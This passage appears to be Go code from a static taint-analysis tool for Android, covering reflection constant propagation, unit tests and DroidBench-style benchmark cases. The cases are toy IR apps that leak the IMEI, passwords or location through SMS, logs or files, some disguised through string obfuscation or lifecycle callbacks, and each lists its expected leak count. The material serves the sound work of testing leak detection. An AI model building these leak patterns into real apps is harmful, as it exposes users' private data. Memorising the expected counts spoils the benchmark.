		if stm.Value == nil {
			return false
		}
		f := operand(st, stm.Value)
		j := join(a.retOut[m], f)
		if !equalFacts(a.retOut[m], j) {
			a.retOut[m] = j
			return true
		}
		return false
	case *ir.InvokeStmt:
		return a.transferCall(s, stm.Call, nil, st)
	case *ir.AssignStmt:
		lhs, isLocal := stm.LHS.(*ir.Local)
		if call, ok := stm.RHS.(*ir.InvokeExpr); ok {
			var dst *ir.Local
			if isLocal {
				dst = lhs
			}
			return a.transferCall(s, call, dst, st)
		}
		if !isLocal {
			// Writing a tracked builder into the heap lets unseen code
			// mutate it; drop every alias of its origin to stay sound.
			if src, ok := stm.RHS.(*ir.Local); ok {
				degradeBuilder(st, st[src])
			}
			return false
		}
		switch rhs := stm.RHS.(type) {
		case *ir.Const:
			if rhs.Kind == ir.StringConst {
				st[lhs] = strsOf(rhs.Str)
			} else {
				st[lhs] = topFact
			}
		case *ir.Local:
			st[lhs] = st[rhs]
		case *ir.Cast:
			if x, ok := rhs.X.(*ir.Local); ok {
				st[lhs] = st[x]
			} else {
				st[lhs] = topFact
			}
		case *ir.Binop:
			if rhs.Op == "+" {
				st[lhs] = concat(operand(st, rhs.L), operand(st, rhs.R))
			} else {
				st[lhs] = topFact
			}
		case *ir.New:
			if rhs.Type.Name == "java.lang.StringBuilder" || rhs.Type.Name == "java.lang.StringBuffer" {
				st[lhs] = fact{k: builder, set: []string{""}, origin: s}
			} else {
				st[lhs] = topFact
			}
		case *ir.FieldRef:
			st[lhs] = a.fieldFact(rhs.Field)
		case *ir.StaticFieldRef:
			st[lhs] = a.fieldFact(rhs.Field)
		default:
			st[lhs] = topFact
		}
	}
	return false
}

func (a *analysis) targetsOf(call *ir.InvokeExpr) []*ir.Method {
	if t, ok := a.targets[call]; ok {
		return t
	}
	t := a.res.TargetsOf(call)
	a.targets[call] = t
	return t
}

func (a *analysis) fieldFact(f *ir.Field) fact {
	if f == nil {
		return topFact
	}
	if ff, ok := a.fieldFacts[f]; ok {
		return ff
	}
	// Never-written field: reads observe the default value, not a
	// constant the analysis tracks.
	return topFact
}

// degradeBuilder drops every alias of f's builder origin to top.
func degradeBuilder(st state, f fact) {
	if f.k != builder {
		return
	}
	for l, lf := range st {
		if lf.k == builder && lf.origin == f.origin {
			st[l] = topFact
		}
	}
}

// setBuilder updates every alias of origin to the new contents.
func setBuilder(st state, origin ir.Stmt, contents fact) {
	nf := topFact
	if contents.k == strs {
		nf = fact{k: builder, set: contents.set, origin: origin}
	}
	for l, lf := range st {
		if lf.k == builder && lf.origin == origin {
			st[l] = nf
		}
	}
}

// transferCall models one invocation: the string/Class/Method APIs get
// precise transfer functions; everything else propagates argument facts
// to resolvable callees and reads back their joined return fact.
func (a *analysis) transferCall(s ir.Stmt, call *ir.InvokeExpr, result *ir.Local, st state) bool {
	setResult := func(f fact) {
		if result != nil {
			st[result] = f
		}
	}

	// StringBuilder / StringBuffer chains, keyed by the receiver holding
	// a builder fact (not the declared type — a builder that escaped is
	// already top and falls through to the generic path).
	if call.Base != nil {
		if bf := st[call.Base]; bf.k == builder {
			switch {
			case call.Ref.Name == "append" && len(call.Args) == 1:
				contents := concat(fact{k: strs, set: bf.set}, operand(st, call.Args[0]))
				setBuilder(st, bf.origin, contents)
				setResult(st[call.Base])
			case call.Ref.Name == "toString" && len(call.Args) == 0:
				setResult(fact{k: strs, set: bf.set})
			case call.Ref.Name == "init":
				// Constructor: contents stay the allocation's "".
				setResult(fact{})
			default:
				// insert, reverse, deleteCharAt, … mutate the contents in
				// ways the pass does not model.
				degradeBuilder(st, bf)
				setResult(topFact)
			}
			return false
		}
	}

	// Reflection data APIs. Bot inputs (no value observed yet on this
	// fixpoint round) yield bot, keeping the transfer monotone.
	switch api, _ := reflectiveAPI(call); api {
	case apiForName:
		switch f := operand(st, call.Args[0]); f.k {
		case strs:
			setResult(fact{k: classes, set: f.set})
		case bot:
			setResult(fact{})
		default:
			setResult(topFact)
		}
		return false
	case apiGetMethod:
		cf := st[call.Base]
		nf := operand(st, call.Args[0])
		switch {
		case cf.k == classes && nf.k == strs && len(cf.set)*len(nf.set) <= maxSet:
			pairs := make([]methodKey, 0, len(cf.set)*len(nf.set))
			for _, c := range cf.set {
				for _, n := range nf.set {
					pairs = append(pairs, methodKey{class: c, name: n})
				}
			}
			setResult(fact{k: methods, meths: pairs})
		case cf.k == bot || nf.k == bot:
			setResult(fact{})
		default:
			setResult(topFact)
		}
		return false
	case apiGetName:
		switch cf := st[call.Base]; cf.k {
		case classes:
			setResult(fact{k: strs, set: cf.set})
		case bot:
			setResult(fact{})
		default:
			setResult(topFact)
		}
		return false
	case apiNewInstance, apiInvoke, apiLoadClass:
		// Edges (or soundness entries) are handled by the classification
		// pass; the produced value itself is not a tracked constant.
		setResult(topFact)
		return false
	}

	// Generic call: push argument facts into resolvable callees, pull
	// the joined return fact back. A builder passed to unmodeled code
	// escapes.
	for _, arg := range call.Args {
		if l, ok := arg.(*ir.Local); ok {
			degradeBuilder(st, st[l])
		}
	}
	changed := false
	targets := a.targetsOf(call)
	allKnown := len(targets) > 0
	ret := fact{}
	for _, t := range targets {
		if !a.inSet[t] {
			allKnown = false
			continue
		}
		pin := a.paramIn[t]
		if pin == nil {
			pin = make([]fact, len(t.Params))
			a.paramIn[t] = pin
		}
		for i := range t.Params {
			var af fact = topFact
			if i < len(call.Args) {
				af = operand(st, call.Args[i])
			}
			j := join(pin[i], af)
			if !equalFacts(pin[i], j) {
				pin[i] = j
				changed = true
			}
		}
		ret = join(ret, a.retOut[t])
	}
	if allKnown {
		setResult(ret)
	} else {
		setResult(topFact)
	}
	return changed
}
