package constprop

import (
	"context"
	"testing"

	"flowdroid/internal/framework"
	"flowdroid/internal/ir"
	"flowdroid/internal/irtext"
	"flowdroid/internal/scene"
)

func parse(t *testing.T, src string) *ir.Program {
	t.Helper()
	prog := framework.NewProgram()
	if err := irtext.ParseInto(prog, src, "test.ir"); err != nil {
		t.Fatal(err)
	}
	if err := prog.Link(); err != nil {
		t.Fatal(err)
	}
	return prog
}

func analyze(t *testing.T, src string) (*ir.Program, *Result) {
	t.Helper()
	prog := parse(t, src)
	res := Analyze(context.Background(), scene.New(prog))
	if res.Truncated {
		t.Fatal("analysis truncated without a deadline")
	}
	return prog, res
}

func TestConstantForNameInvokeResolves(t *testing.T) {
	prog, res := analyze(t, `
class app.Target {
  method init(): void { return }
  method leak(s: java.lang.String): void { return }
}
class app.Main {
  static method run(secret: java.lang.String): void {
    clz = java.lang.Class.forName("app.Target")
    mth = clz.getMethod("leak")
    tgt = new app.Target()
    o = mth.invoke(tgt, secret)
    return
  }
}
`)
	if got := len(res.Report.Unresolved); got != 0 {
		t.Fatalf("unresolved sites = %d (%+v), want 0", got, res.Report.Unresolved)
	}
	// forName, getMethod and invoke each count as a resolved site.
	if res.Report.ResolvedSites != 3 {
		t.Fatalf("resolved sites = %d, want 3", res.Report.ResolvedSites)
	}
	edges, err := res.Materialize(prog)
	if err != nil {
		t.Fatal(err)
	}
	var bridges []*ir.Method
	for _, ms := range edges {
		bridges = append(bridges, ms...)
	}
	if len(bridges) != 1 {
		t.Fatalf("bridges = %d, want 1", len(bridges))
	}
	b := bridges[0]
	if b.Class.Name != BridgesClass || !b.Class.Synthetic {
		t.Fatalf("bridge lives in %q (synthetic=%v)", b.Class.Name, b.Class.Synthetic)
	}
	// Bridge arity mirrors the invoke site: receiver + one argument.
	if len(b.Params) != 2 {
		t.Fatalf("bridge params = %d, want 2", len(b.Params))
	}
	if b.Params[0].Type.Name != "app.Target" {
		t.Fatalf("bridge receiver type = %s, want app.Target", b.Params[0].Type.Name)
	}
	// The bridge body performs the real virtual call.
	var sawCall bool
	for _, s := range b.Body() {
		if c := ir.CallOf(s); c != nil && c.Ref.Name == "leak" {
			sawCall = true
		}
	}
	if !sawCall {
		t.Fatal("bridge body has no call to the resolved target")
	}
}

func TestStringBuilderLaunderedNameResolves(t *testing.T) {
	_, res := analyze(t, `
class app.Target {
  method init(): void { return }
  method leak(s: java.lang.String): void { return }
}
class app.Main {
  static method run(secret: java.lang.String): void {
    sb = new java.lang.StringBuilder()
    sb2 = sb.append("app.")
    sb3 = sb2.append("Target")
    cn = sb3.toString()
    clz = java.lang.Class.forName(cn)
    mth = clz.getMethod("leak")
    tgt = new app.Target()
    o = mth.invoke(tgt, secret)
    return
  }
}
`)
	if got := len(res.Report.Unresolved); got != 0 {
		t.Fatalf("unresolved sites = %d (%+v), want 0", got, res.Report.Unresolved)
	}
	if res.Report.ResolvedSites != 3 {
		t.Fatalf("resolved sites = %d, want 3", res.Report.ResolvedSites)
	}
}

func TestInterproceduralConstantArgument(t *testing.T) {
	_, res := analyze(t, `
class app.Target {
  method init(): void { return }
  method leak(s: java.lang.String): void { return }
}
class app.Helper {
  static method load(name: java.lang.String): java.lang.Class {
    c = java.lang.Class.forName(name)
    return c
  }
}
class app.Main {
  static method run(secret: java.lang.String): void {
    clz = app.Helper.load("app.Target")
    mth = clz.getMethod("leak")
    tgt = new app.Target()
    o = mth.invoke(tgt, secret)
    return
  }
}
`)
	if got := len(res.Report.Unresolved); got != 0 {
		t.Fatalf("unresolved sites = %d (%+v), want 0", got, res.Report.Unresolved)
	}
	if res.Report.ResolvedSites != 3 {
		t.Fatalf("resolved sites = %d, want 3", res.Report.ResolvedSites)
	}
}

func TestDynamicNameReportedUnresolved(t *testing.T) {
	_, res := analyze(t, `
class app.Main extends android.app.Activity {
  method onCreate(b: android.os.Bundle): void {
    i = this.getIntent()
    name = i.getStringExtra("cls")
    clz = java.lang.Class.forName(name)
    o = clz.newInstance()
    return
  }
}
`)
	if len(res.Report.Unresolved) != 2 {
		t.Fatalf("unresolved = %+v, want forName and newInstance entries", res.Report.Unresolved)
	}
	for _, u := range res.Report.Unresolved {
		if u.Reason != NonConstantString {
			t.Fatalf("reason = %q, want %q", u.Reason, NonConstantString)
		}
		if u.Method == "" || u.Call == "" {
			t.Fatalf("incomplete site record: %+v", u)
		}
	}
}

func TestUnknownClassReported(t *testing.T) {
	_, res := analyze(t, `
class app.Main {
  static method run(): void {
    clz = java.lang.Class.forName("no.such.Class")
    return
  }
}
`)
	if len(res.Report.Unresolved) != 1 || res.Report.Unresolved[0].Reason != UnknownClass {
		t.Fatalf("unresolved = %+v, want one unknown-class entry", res.Report.Unresolved)
	}
}

func TestClassLoaderIsDynamicLoading(t *testing.T) {
	_, res := analyze(t, `
class app.Main {
  static method run(o: java.lang.Object): void {
    c = o.getClass()
    l = c.getClassLoader()
    clz = l.loadClass("app.Whatever")
    return
  }
}
`)
	if len(res.Report.Unresolved) != 1 || res.Report.Unresolved[0].Reason != DynamicLoading {
		t.Fatalf("unresolved = %+v, want one dynamic-loading entry", res.Report.Unresolved)
	}
}

func TestSingleConstantFieldWriterResolves(t *testing.T) {
	_, res := analyze(t, `
class app.Target {
  method init(): void { return }
  method leak(s: java.lang.String): void { return }
}
class app.Main {
  static field name: java.lang.String
  static method setup(): void {
    app.Main.name = "app.Target"
    return
  }
  static method run(secret: java.lang.String): void {
    n = app.Main.name
    clz = java.lang.Class.forName(n)
    mth = clz.getMethod("leak")
    tgt = new app.Target()
    o = mth.invoke(tgt, secret)
    return
  }
}
`)
	if got := len(res.Report.Unresolved); got != 0 {
		t.Fatalf("unresolved sites = %d (%+v), want 0", got, res.Report.Unresolved)
	}
	if res.Report.ResolvedSites != 3 {
		t.Fatalf("resolved sites = %d, want 3", res.Report.ResolvedSites)
	}
}

func TestBranchJoinKeepsBoundedSet(t *testing.T) {
	_, res := analyze(t, `
class app.A { method init(): void { return } method go(): void { return } }
class app.B { method init(): void { return } method go(): void { return } }
class app.Main {
  static method run(): void {
    local n: java.lang.String
    if * goto other
    n = "app.A"
    goto load
  other:
    n = "app.B"
  load:
    clz = java.lang.Class.forName(n)
    mth = clz.getMethod("go")
    return
  }
}
`)
	if got := len(res.Report.Unresolved); got != 0 {
		t.Fatalf("unresolved sites = %d (%+v), want 0", got, res.Report.Unresolved)
	}
	if res.Report.ResolvedSites != 2 {
		t.Fatalf("resolved sites = %d, want 2 (forName + getMethod)", res.Report.ResolvedSites)
	}
}

func TestMaterializeIdempotentOnRerun(t *testing.T) {
	src := `
class app.Target {
  method init(): void { return }
  method leak(s: java.lang.String): void { return }
}
class app.Main {
  static method run(secret: java.lang.String): void {
    clz = java.lang.Class.forName("app.Target")
    mth = clz.getMethod("leak")
    tgt = new app.Target()
    o = mth.invoke(tgt, secret)
    return
  }
}
`
	prog, res := analyze(t, src)
	e1, err := res.Materialize(prog)
	if err != nil {
		t.Fatal(err)
	}
	// A second Analyze+Materialize on the mutated program (as a second
	// AnalyzeApp on the same loaded app does) must reuse the bridges.
	res2 := Analyze(context.Background(), scene.New(prog))
	e2, err := res2.Materialize(prog)
	if err != nil {
		t.Fatal(err)
	}
	count := func(m map[ir.Stmt][]*ir.Method) int {
		n := 0
		for _, ms := range m {
			n += len(ms)
		}
		return n
	}
	if count(e1) != 1 || count(e2) != 1 {
		t.Fatalf("edge counts = %d, %d, want 1, 1", count(e1), count(e2))
	}
	if len(prog.Class(BridgesClass).Methods()) != 1 {
		t.Fatalf("bridges class has %d methods, want 1 (no duplicates)", len(prog.Class(BridgesClass).Methods()))
	}
}
