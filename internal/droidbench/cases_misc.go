package droidbench

func init() {
	register(Case{
		Name:          "PrivateDataLeak1",
		Category:      "Miscellaneous Android-Specific",
		ExpectedLeaks: 1,
		Note: "The paper's running example (Listing 1): a password field " +
			"read in onRestart is sent via SMS from an XML button callback. " +
			"Needs lifecycle, layout sources, XML callbacks and field " +
			"sensitivity together.",
		Files: mkApp(`
class de.ecspride.User {
  field name: java.lang.String
  field pwd: java.lang.String
  method init(n: java.lang.String, p: java.lang.String): void {
    this.name = n
    this.pwd = p
  }
  method getName(): java.lang.String {
    r = this.name
    return r
  }
  method getpwd(): java.lang.String {
    r = this.pwd
    return r
  }
}
class de.ecspride.MainActivity extends android.app.Activity {
  field user: de.ecspride.User
  method onCreate(b: android.os.Bundle): void {
    this.setContentView(@layout/main)
  }
  method onRestart(): void {
    ut = this.findViewById(@id/username)
    local unameText: android.widget.EditText
    unameText = (android.widget.EditText) ut
    pt = this.findViewById(@id/pwdString)
    local pwdText: android.widget.EditText
    pwdText = (android.widget.EditText) pt
    uname = unameText.getText()
    pwd = pwdText.getText()
    if * goto skip
    u = new de.ecspride.User(uname, pwd)
    this.user = u
  skip:
    return
  }
  method sendMessage(v: android.view.View): void {
    u = this.user
    if * goto out
    pwd = u.getpwd()
    obf = pwd + "_"
    nm = u.getName()
    msg = "User: " + nm
    msg2 = msg + obf
`+sendSMS("msg2")+`
  out:
    return
  }
}
`, `  <EditText android:id="@+id/username"/>
  <EditText android:id="@+id/pwdString" android:inputType="textPassword"/>
  <Button android:id="@+id/button1" android:onClick="sendMessage"/>`,
			"activity:MainActivity"),
	})

	register(Case{
		Name:          "PrivateDataLeak2",
		Category:      "Miscellaneous Android-Specific",
		ExpectedLeaks: 1,
		Note:          "The IMEI is written to a file output stream.",
		Files: mkApp(`
class de.ecspride.MainActivity extends android.app.Activity {
  method onCreate(b: android.os.Bundle): void {
`+getIMEI+`
    fos = this.openFileOutput("out.txt", 0)
    fos.write(imei)
  }
}
`, "", "activity:MainActivity"),
	})

	register(Case{
		Name:          "DirectLeak1",
		Category:      "Miscellaneous Android-Specific",
		ExpectedLeaks: 1,
		Note:          "The simplest possible flow: source and sink in one method.",
		Files: mkApp(`
class de.ecspride.MainActivity extends android.app.Activity {
  method onCreate(b: android.os.Bundle): void {
`+getIMEI+`
`+sendSMS("imei")+`
  }
}
`, "", "activity:MainActivity"),
	})

	register(Case{
		Name:          "InactiveActivity",
		Category:      "Miscellaneous Android-Specific",
		ExpectedLeaks: 0,
		Note: "The leaking activity is disabled in the manifest and can " +
			"never run; tools ignoring the manifest report a false positive.",
		Files: mkApp(`
class de.ecspride.MainActivity extends android.app.Activity {
  method onCreate(b: android.os.Bundle): void {
    s = "all quiet"
`+logIt("s")+`
  }
}
class de.ecspride.InactiveActivity extends android.app.Activity {
  method onCreate(b: android.os.Bundle): void {
`+getIMEI+`
`+sendSMS("imei")+`
  }
}
`, "", "activity:MainActivity", "activity!:InactiveActivity"),
	})

	register(Case{
		Name:          "LogNoLeak",
		Category:      "Miscellaneous Android-Specific",
		ExpectedLeaks: 0,
		Note:          "Only non-sensitive data reaches the log sink.",
		Files: mkApp(`
class de.ecspride.MainActivity extends android.app.Activity {
  method onCreate(b: android.os.Bundle): void {
    msg = "started"
    full = msg + "!"
`+logIt("full")+`
  }
}
`, "", "activity:MainActivity"),
	})
}
