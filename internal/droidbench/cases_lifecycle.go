package droidbench

func init() {
	register(Case{
		Name:          "BroadcastReceiverLifecycle1",
		Category:      "Lifecycle",
		ExpectedLeaks: 1,
		Note: "A broadcast receiver leaks data received through its intent " +
			"parameter (received intents are sources).",
		Files: mkApp(`
class de.ecspride.MyReceiver extends android.content.BroadcastReceiver {
  method onReceive(c: android.content.Context, i: android.content.Intent): void {
    s = i.getStringExtra("data")
`+sendSMS("s")+`
  }
}
`, "", "receiver:MyReceiver"),
	})

	register(Case{
		Name:          "ActivityLifecycle1",
		Category:      "Lifecycle",
		ExpectedLeaks: 1,
		Note: "The taint is obtained in onCreate and leaked in onDestroy: " +
			"the whole lifecycle chain must be modeled.",
		Files: mkApp(`
class de.ecspride.MainActivity extends android.app.Activity {
  field imei: java.lang.String
  method onCreate(b: android.os.Bundle): void {
`+getIMEI+`
    this.imei = imei
  }
  method onDestroy(): void {
    t = this.imei
`+logIt("t")+`
  }
}
`, "", "activity:MainActivity"),
	})

	register(Case{
		Name:          "ActivityLifecycle2",
		Category:      "Lifecycle",
		ExpectedLeaks: 1,
		Note: "The taint travels through the saved-instance-state bundle: " +
			"written in onSaveInstanceState, read back in " +
			"onRestoreInstanceState after the activity is recreated.",
		Files: mkApp(`
class de.ecspride.MainActivity extends android.app.Activity {
  method onSaveInstanceState(b: android.os.Bundle): void {
`+getIMEI+`
    b.putString("imei", imei)
  }
  method onRestoreInstanceState(b: android.os.Bundle): void {
    t = b.getString("imei")
`+sendSMS("t")+`
  }
}
`, "", "activity:MainActivity"),
	})

	register(Case{
		Name:          "ActivityLifecycle3",
		Category:      "Lifecycle",
		ExpectedLeaks: 1,
		Note: "Taint stored in onStop leaks in onRestart — the restart edge " +
			"of the lifecycle automaton (Figure 1) must exist.",
		Files: mkApp(`
class de.ecspride.MainActivity extends android.app.Activity {
  field data: java.lang.String
  method onStop(): void {
`+getIMEI+`
    this.data = imei
  }
  method onRestart(): void {
    t = this.data
`+logIt("t")+`
  }
}
`, "", "activity:MainActivity"),
	})

	register(Case{
		Name:          "ActivityLifecycle4",
		Category:      "Lifecycle",
		ExpectedLeaks: 1,
		Note: "Taint stored in onPause leaks in onResume: requires the " +
			"pause→resume back edge (a paused activity may resume).",
		Files: mkApp(`
class de.ecspride.MainActivity extends android.app.Activity {
  field data: java.lang.String
  method onPause(): void {
`+getIMEI+`
    this.data = imei
  }
  method onResume(): void {
    t = this.data
`+sendSMS("t")+`
  }
}
`, "", "activity:MainActivity"),
	})

	register(Case{
		Name:          "ServiceLifecycle1",
		Category:      "Lifecycle",
		ExpectedLeaks: 1,
		Note: "A service stores the taint in onStartCommand and leaks it in " +
			"onDestroy — the service lifecycle must be modeled.",
		Files: mkApp(`
class de.ecspride.MyService extends android.app.Service {
  field secret: java.lang.String
  method onStartCommand(i: android.content.Intent): void {
    tmRaw = this.getSystemService("phone")
    local tm: android.telephony.TelephonyManager
    tm = (android.telephony.TelephonyManager) tmRaw
    imei = tm.getDeviceId()
    this.secret = imei
  }
  method onDestroy(): void {
    t = this.secret
`+logIt("t")+`
  }
}
`, "", "service:MyService"),
	})
}
