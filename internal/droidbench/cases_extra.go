package droidbench

// Extension cases beyond the DroidBench 1.0 rows of Table 1, in the
// spirit of the suite's later growth (the paper notes external groups
// contributing further micro benchmarks). They are kept out of the Table
// 1 scoring but exercised by the test suite and available to all
// analyzers through ExtraCases().

var extraRegistry []Case

func registerExtra(c Case) { extraRegistry = append(extraRegistry, c) }

// ExtraCases returns the extension benchmarks (not part of Table 1).
func ExtraCases() []Case { return append([]Case(nil), extraRegistry...) }

func init() {
	registerExtra(Case{
		Name:          "ThreadLeak1",
		Category:      "Extensions",
		ExpectedLeaks: 1,
		Note: "The leak happens inside a Runnable handed to a Thread; the " +
			"analysis treats threads as sequentially executed callbacks " +
			"(Section 5, Limitations), which suffices for this flow. The " +
			"payload travels through a static field: taint stored in the " +
			"fields of one *instance* of a separately allocated listener is " +
			"not matched up with the synthetic instance the dummy main " +
			"invokes — a known imprecision this implementation shares with " +
			"the original.",
		Files: mkApp(`
class de.ecspride.Task implements java.lang.Runnable {
  static field payload: java.lang.String
  method init(): void {
    return
  }
  method run(): void {
    t = de.ecspride.Task.payload
`+logIt("t")+`
  }
}
class de.ecspride.MainActivity extends android.app.Activity {
  method onCreate(b: android.os.Bundle): void {
`+getIMEI+`
    de.ecspride.Task.payload = imei
    task = new de.ecspride.Task()
    th = new java.lang.Thread(task)
    th.start()
  }
}
`, "", "activity:MainActivity"),
	})

	registerExtra(Case{
		Name:          "ApplicationLifecycle1",
		Category:      "Extensions",
		ExpectedLeaks: 1,
		Note: "The custom Application subclass collects the identifier in " +
			"its onCreate — which Android runs before any component — and an " +
			"activity leaks it.",
		Files: func() map[string]string {
			files := mkApp(`
class de.ecspride.MyApplication extends android.app.Application {
  static field id: java.lang.String
  method onCreate(): void {
    tmRaw = this.getSystemService("phone")
    local tm: android.telephony.TelephonyManager
    tm = (android.telephony.TelephonyManager) tmRaw
    imei = tm.getDeviceId()
    de.ecspride.MyApplication.id = imei
  }
}
class de.ecspride.MainActivity extends android.app.Activity {
  method onCreate(b: android.os.Bundle): void {
    t = de.ecspride.MyApplication.id
`+logIt("t")+`
  }
}
`, "", "activity:MainActivity")
			files["AndroidManifest.xml"] = `<?xml version="1.0"?>
<manifest xmlns:android="http://schemas.android.com/apk/res/android" package="de.ecspride">
  <application android:name=".MyApplication">
    <activity android:name=".MainActivity"/>
  </application>
</manifest>`
			return files
		}(),
	})

	registerExtra(Case{
		Name:          "MultiComponent1",
		Category:      "Extensions",
		ExpectedLeaks: 1,
		Note: "One activity stores the taint in a static field, a service " +
			"leaks it: the dummy main's arbitrary component ordering with " +
			"repetition makes the cross-component flow visible.",
		Files: mkApp(`
class de.ecspride.Shared {
  static field data: java.lang.String
}
class de.ecspride.MainActivity extends android.app.Activity {
  method onCreate(b: android.os.Bundle): void {
`+getIMEI+`
    de.ecspride.Shared.data = imei
  }
}
class de.ecspride.LeakService extends android.app.Service {
  method onStartCommand(i: android.content.Intent): void {
    t = de.ecspride.Shared.data
`+logIt("t")+`
  }
}
`, "", "activity:MainActivity", "service:LeakService"),
	})

	registerExtra(Case{
		Name:          "UnregisteredComponent1",
		Category:      "Extensions",
		ExpectedLeaks: 0,
		Note: "A leaking activity class exists but is not declared in the " +
			"manifest; it can never run, so nothing must be reported.",
		Files: mkApp(`
class de.ecspride.MainActivity extends android.app.Activity {
  method onCreate(b: android.os.Bundle): void {
    s = "quiet"
`+logIt("s")+`
  }
}
class de.ecspride.GhostActivity extends android.app.Activity {
  method onCreate(b: android.os.Bundle): void {
`+getIMEI+`
`+sendSMS("imei")+`
  }
}
`, "", "activity:MainActivity"),
	})

	registerExtra(Case{
		Name:          "Obfuscation1",
		Category:      "Extensions",
		ExpectedLeaks: 1,
		Note: "A long chain of string transformations between source and " +
			"sink; every step is covered by the taint wrapper.",
		Files: mkApp(`
class de.ecspride.MainActivity extends android.app.Activity {
  method onCreate(b: android.os.Bundle): void {
`+getIMEI+`
    a = imei.toLowerCase()
    bb = a.trim()
    c = bb.substring(1)
    d = c.replace("0", "O")
    e = d + "#"
    sb = new java.lang.StringBuilder()
    sb.append("x")
    sb.append(e)
    f = sb.toString()
    g = f.toUpperCase()
`+sendSMS("g")+`
  }
}
`, "", "activity:MainActivity"),
	})

	registerExtra(Case{
		Name:          "SharedPreferencesRoundTrip1",
		Category:      "Extensions",
		ExpectedLeaks: 2,
		Note: "Writing the identifier to preferences is itself a leak; " +
			"reading preferences back is a source, so the subsequent SMS is " +
			"reported too (the environment round trip is modeled through the " +
			"source/sink rules, unlike the file system).",
		Files: mkApp(`
class de.ecspride.MainActivity extends android.app.Activity {
  method onCreate(b: android.os.Bundle): void {
`+getIMEI+`
    prefs = this.getSharedPreferences("ids", 0)
    ed = prefs.edit()
    ed.putString("imei", imei)
    ed.commit()
  }
  method onResume(): void {
    prefs = this.getSharedPreferences("ids", 0)
    back = prefs.getString("imei", "")
`+sendSMS("back")+`
  }
}
`, "", "activity:MainActivity"),
	})

	registerExtra(Case{
		Name:          "DeepCallChain1",
		Category:      "Extensions",
		ExpectedLeaks: 1,
		Note:          "The taint crosses six stack frames before leaking.",
		Files: mkApp(`
class de.ecspride.MainActivity extends android.app.Activity {
  method onCreate(b: android.os.Bundle): void {
`+getIMEI+`
    t = this.f1(imei)
`+logIt("t")+`
  }
  method f1(x: java.lang.String): java.lang.String {
    r = this.f2(x)
    return r
  }
  method f2(x: java.lang.String): java.lang.String {
    r = this.f3(x)
    return r
  }
  method f3(x: java.lang.String): java.lang.String {
    r = this.f4(x)
    return r
  }
  method f4(x: java.lang.String): java.lang.String {
    r = this.f5(x)
    return r
  }
  method f5(x: java.lang.String): java.lang.String {
    r = x + "!"
    return r
  }
}
`, "", "activity:MainActivity"),
	})
}
