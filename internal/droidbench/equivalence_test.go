package droidbench

import (
	"bytes"
	"context"
	"testing"

	"flowdroid/internal/core"
)

// TestWorkerCountEquivalence: every DroidBench case must produce a
// byte-identical canonical leak report — and identical fact-domain
// counters — with the sequential and the 8-worker taint solver.
func TestWorkerCountEquivalence(t *testing.T) {
	for _, c := range Cases() {
		c := c
		t.Run(c.Name, func(t *testing.T) {
			var base []byte
			var basePeak int
			for _, w := range []int{1, 8} {
				opts := core.DefaultOptions()
				opts.Taint.Workers = w
				res, err := core.AnalyzeFiles(context.Background(), c.Files, opts)
				if err != nil {
					t.Fatalf("workers=%d: %v", w, err)
				}
				js, err := res.Taint.CanonicalJSON()
				if err != nil {
					t.Fatal(err)
				}
				if w == 1 {
					base, basePeak = js, res.Taint.Stats.PeakAbstractions
					continue
				}
				if !bytes.Equal(base, js) {
					t.Errorf("workers=%d report differs from workers=1:\n%s\nvs\n%s", w, base, js)
				}
				if res.Taint.Stats.PeakAbstractions != basePeak {
					t.Errorf("workers=%d: PeakAbstractions = %d, want %d",
						w, res.Taint.Stats.PeakAbstractions, basePeak)
				}
			}
		})
	}
}
