package droidbench

func init() {
	register(Case{
		Name:          "ArrayAccess1",
		Category:      "Arrays and Lists",
		ExpectedLeaks: 0,
		Note: "Taint stored at index 1, clean value read from index 0: no " +
			"real leak. Analyses that taint whole arrays (including FlowDroid, " +
			"per the paper) report a false positive here.",
		Files: mkApp(`
class de.ecspride.MainActivity extends android.app.Activity {
  method onCreate(b: android.os.Bundle): void {
`+getIMEI+`
    arr = newarray java.lang.String
    arr[0] = "no taint"
    arr[1] = imei
    t = arr[0]
`+logIt("t")+`
  }
}
`, "", "activity:MainActivity"),
	})

	register(Case{
		Name:          "ArrayAccess2",
		Category:      "Arrays and Lists",
		ExpectedLeaks: 0,
		Note: "Like ArrayAccess1 but with a computed index; requires index " +
			"reasoning no evaluated tool performs.",
		Files: mkApp(`
class de.ecspride.MainActivity extends android.app.Activity {
  method onCreate(b: android.os.Bundle): void {
`+getIMEI+`
    arr = newarray java.lang.String
    i = 2 * 3
    j = i - 6
    arr[j] = "no taint"
    k = j + 1
    arr[k] = imei
    t = arr[j]
`+logIt("t")+`
  }
}
`, "", "activity:MainActivity"),
	})

	register(Case{
		Name:          "ListAccess1",
		Category:      "Arrays and Lists",
		ExpectedLeaks: 0,
		Note: "Taint added to a list, but only the clean element is read " +
			"back. Whole-collection tainting (the shortcut-rule model) " +
			"produces a false positive.",
		Files: mkApp(`
class de.ecspride.MainActivity extends android.app.Activity {
  method onCreate(b: android.os.Bundle): void {
`+getIMEI+`
    lst = new java.util.ArrayList()
    clean = "plain"
    lst.add(clean)
    lst.add(imei)
    o = lst.get(0)
    local t: java.lang.String
    t = (java.lang.String) o
`+logIt("t")+`
  }
}
`, "", "activity:MainActivity"),
	})
}
