package droidbench

func init() {
	register(Case{
		Name:          "AnonymousClass1",
		Category:      "Callbacks",
		ExpectedLeaks: 1,
		Note: "A separate listener class (standing in for Java's anonymous " +
			"class) is registered imperatively; the location passed to the " +
			"callback parameter leaks inside the callback itself.",
		Files: mkApp(`
class de.ecspride.MyListener implements android.location.LocationListener {
  method init(): void {
    return
  }
  method onLocationChanged(loc: android.location.Location): void {
    s = loc.toString()
`+logIt("s")+`
  }
  method onProviderEnabled(p: java.lang.String): void {
    return
  }
  method onProviderDisabled(p: java.lang.String): void {
    return
  }
  method onStatusChanged(p: java.lang.String, st: int): void {
    return
  }
}
class de.ecspride.MainActivity extends android.app.Activity {
  method onCreate(b: android.os.Bundle): void {
    lmRaw = this.getSystemService("location")
    local lm: android.location.LocationManager
    lm = (android.location.LocationManager) lmRaw
    l = new de.ecspride.MyListener()
    lm.requestLocationUpdates("gps", 0, 0, l)
  }
}
`, "", "activity:MainActivity"),
	})

	register(Case{
		Name:          "Button1",
		Category:      "Callbacks",
		ExpectedLeaks: 1,
		Note: "The IMEI collected in onCreate is stored in an activity field " +
			"and sent via SMS from an XML-declared button click handler.",
		Files: mkApp(`
class de.ecspride.MainActivity extends android.app.Activity {
  field imei: java.lang.String
  method onCreate(b: android.os.Bundle): void {
    this.setContentView(@layout/main)
`+getIMEI+`
    this.imei = imei
  }
  method sendMessage(v: android.view.View): void {
